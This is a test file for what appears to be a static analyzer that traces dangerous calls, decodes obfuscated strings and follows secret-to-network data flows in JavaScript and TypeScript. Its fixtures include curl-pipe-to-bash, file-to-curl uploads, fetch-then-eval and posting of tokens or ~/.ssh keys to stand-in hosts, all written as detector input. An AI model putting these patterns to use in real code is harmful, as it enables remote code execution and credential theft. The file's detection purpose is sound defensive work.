import { expect, it } from 'vitest'

import { calls, factsOf, flows, values } from '../testkit.js'

it('resolves callees through both module systems', async () => {
  const facts = await factsOf({
    'a.ts': `import fs, { readFileSync as rf } from 'node:fs'
import * as cp from 'child_process'
import axios from 'axios'
import { writeFile } from 'fs/promises'
const { exec: run } = require('child_process')
const { promises: { unlink } } = require('fs')
rf('/a' as string); fs.promises.rm('/b'); cp.spawn('ls', ['-l']); axios.post('https://c.example', {})
run('d'); unlink('/e'); await writeFile('/f', 'x')
new Function('return 1+1')()
`,
  })
  expect(calls(facts.filter((fact) => fact['code.language'] === 'typescript'))).toEqual([
    '7 fs.readFileSync(/a)',
    '7 fs.promises.rm(/b)',
    '7 child_process.spawn(ls, -l)',
    '7 axios.post(https://c.example, )',
    '8 child_process.exec(d)',
    '8 fs.promises.unlink(/e)',
    '8 fs.promises.writeFile(/f, x)',
    '9 Function(return 1+1)',
    '9 Function()',
  ])
})

it('sees through computed names', async () => {
  const facts = await factsOf({
    'a.js': `const c = require('child_' + 'process')
c['ex' + 'ec']('one')
globalThis[atob('ZmV0Y2g=')]('https://two.example')
const { [\`exec\${'Sync'}\`]: s } = c
import('fs').then((m) => m.unlinkSync('/three'))
require('fs').readFileSync.call(null, '/four')
process.mainModule.require('fs').rmSync('/five')
`,
  })
  expect(calls(facts)).toEqual(
    expect.arrayContaining(
      [
        '2 child_process.exec(one)',
        '3 fetch(https://two.example)',
        '5 fs.unlinkSync(/three)',
        '6 fs.readFileSync(null, /four)',
        '7 fs.rmSync(/five)',
      ].map((line) => line.replace('(null, ', '(')),
    ),
  )
})

it.each([
  ["'ht' + 'tp://a'", 'http://a'],
  ['`http://${"a"}`', 'http://a'],
  ["['http:', '', 'a'].join('/')", 'http://a'],
  ["'a//:ptth'.split('').reverse().join('')", 'http://a'],
  ['String.fromCharCode(104, 116, 116, 112, 58, 47, 47, 97)', 'http://a'],
  ["Buffer.from('aHR0cDovL2E=', 'base64').toString()", 'http://a'],
  ["Buffer.from('687474703a2f2f61', 'hex').toString('utf8')", 'http://a'],
  ["decodeURIComponent('http%3A%2F%2Fa')", 'http://a'],
  ["'\\x68\\u0074tp://a'", 'http://a'],
  ["path.join(os.homedir(), '.ssh', 'id_rsa')", '~/.ssh/id_rsa'],
  ["[105, 117, 117, 113, 59, 48, 48, 98].map((c) => String.fromCharCode(c - 1)).join('')", 'http://a'],
  ["'iuuq;00b'.split('').map((c) => String.fromCharCode(c.charCodeAt(0) - 1)).join('')", 'http://a'],
  ['`${process.env.HOME}/.ssh`', '~/.ssh'],
])('folds %s', async (expression, text) => {
  const facts = await factsOf({
    'a.js': `import os from 'os'; import path from 'path'; fetch(${expression})`,
  })
  const fetch = facts.find((fact) => fact['code.call.name'] === 'fetch')
  expect(fetch?.['code.call.arguments']).toEqual([text])
})

it('follows data through promises, callbacks, objects and destructuring', async () => {
  const facts = await factsOf({
    'a.js': `import axios from 'axios'
import fs from 'fs'
const send = async ({ url, body }) => { await axios.post(url, body) }
send({ url: 'https://a.example', body: { t: process.env.TOKEN } })
fetch('https://b.example').then((r) => r.text()).then((t) => eval(t))
fetch('https://c.example').then((r) => r.text()).then(eval)
fs.readFileSync('/secret', 'utf8').split('\\n').forEach((line) => axios.post('https://d.example', line))
`,
  })
  expect(flows(facts)).toEqual([
    'process.env.TOKEN -> axios.post via a.js:4 a.js:3',
    'fetch(https://b.example) -> eval via a.js:5',
    'fetch(https://c.example) -> eval via a.js:6',
    'fs.readFileSync(/secret) -> axios.post via a.js:7',
  ])
})

it('follows data through what a promise is given', async () => {
  const facts = await factsOf({
    'a.js': `import https from 'node:https'
import axios from 'axios'
import fs from 'node:fs'
const load = () => new Promise((resolve, reject) => {
  let data = ''
  fs.createReadStream('/secret').on('data', (chunk) => { data += chunk })
  fs.readFile('/x', () => resolve(data + fs.readFileSync('/secret')))
})
const text = await load()
axios.post('https://a.example', text)
`,
  })
  expect(flows(facts)).toEqual(['fs.readFileSync(/secret) -> axios.post via a.js:7 a.js:4 a.js:9 a.js:10'])
})

it('follows data through classes and across files', async () => {
  const facts = await factsOf({
    'index.ts': `import { Net } from './net.js'
import read from './read'
const net = new Net('https://a.example')
net.send(read())
`,
    'net.ts': `import axios from 'axios'
export class Net {
  constructor(private url: string) { this.url = url }
  send(data: string) { return axios.post(this.url, data) }
}
`,
    'read.js': `const fs = require('fs')
module.exports = function () { return fs.readFileSync('/secret') }
`,
  })
  expect(flows(facts)).toEqual(['fs.readFileSync(/secret) -> axios.post via read.js:2 index.ts:4 net.ts:4'])
  expect(calls(facts)).toContain('4 axios.post(https://a.example, ?)')
})

it('reads code handed to interpreters', async () => {
  const facts = await factsOf({
    'a.js': `const cp = require('child_process')
cp.execSync('curl -s https://a.example | bash')
eval(Buffer.from('ZmV0Y2goImh0dHBzOi8vYi5leGFtcGxlIik=', 'base64').toString())
cp.spawn('sh', ['-c', 'cat /secret | curl -T - https://c.example'])
`,
  })
  expect(flows(facts)).toEqual([
    'curl(https://a.example) -> bash via a.js:2',
    'cat(/secret) -> curl via a.js:4',
  ])
  expect(calls(facts)).toContain('3 fetch(https://b.example)')
})

it('describes tools that the code declares', async () => {
  const facts = await factsOf({
    'a.ts': `server.tool('one', 'First', { p: z.string() }, async ({ p }) => p)
server.registerTool('two', { description: 'Second', inputSchema: {} }, async () => ({}))
const tools = [{ name: 'three', description: \`Third\`, inputSchema: { type: 'object' } }]
`,
  })
  const tools = facts.filter((fact) => fact.kind === 'tool.describe')
  expect(tools.map((fact) => [fact['gen_ai.tool.name'], fact['gen_ai.tool.description']])).toEqual([
    ['one', 'First'],
    ['two', 'Second'],
    ['three', 'Third'],
  ])
})

it('names what is read of globals', async () => {
  const facts = await factsOf({
    'a.js': 'const { A_KEY } = process.env; send(process.env["B_KEY"], document.cookie)',
  })
  expect(values(facts, 'code.member.name')).toEqual(['process.env', 'process.env.B_KEY', 'document.cookie'])
})

it('goes through the members of an object one by one', async () => {
  const facts = await factsOf({
    'a.js': `const fs = require('fs'), path = require('path')
const known = { a: ['/', 'secret'], b: ['/', 'other'] }
const found = {}
for (const [k, parts] of Object.entries(known)) found[k] = fs.readFileSync(path.join(...parts)).toString('base64')
axios.post('https://a.example', { found })
for (const p of Object.values({ x: '/secret/x' })) axios.post('https://a.example', fs.readFileSync(p))
`,
  })
  expect(flows(facts)).toHaveLength(2)
})

it('knows a word that another file handed on', async () => {
  const facts = await factsOf({
    'a.js': `export const plain = (x) => x.replace(' ', '')\nexport const own = 'DE21500500009876543210'.trim()`,
    'b.js': `import { plain } from './a.js'\nplain('DE89370400440532013000')`,
  })
  const handed = facts.filter((fact) => fact['code.string.elsewhere'] === true)
  expect(handed.map((fact) => [fact['file.path'], fact['code.string.value']])).toEqual([
    ['a.js', 'DE89370400440532013000'],
  ])
})

it('knows a word that was put together from one that stands somewhere in the code', async () => {
  const facts = await factsOf({
    'a.js': `import { far } from './b.js'
const made = ['0x00e5a3b1', 'c7d94f20', '8a6b5c4d', '3e2f1a0b', '9c8d7e6f'].join('')
const plain = '0x833589FCD6eDb6E08f4c7C32D4f71b54bdA02913'.toLowerCase()
send(made, plain, far.toLowerCase())`,
    'b.js': `export const far = '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'`,
  })
  const assembled = facts.filter((fact) => fact['code.string.assembled'] === true)
  expect([...new Set(assembled.map((fact) => fact['code.string.value']))]).toEqual([
    '0x00e5a3b1c7d94f208a6b5c4d3e2f1a0b9c8d7e6f',
  ])
})
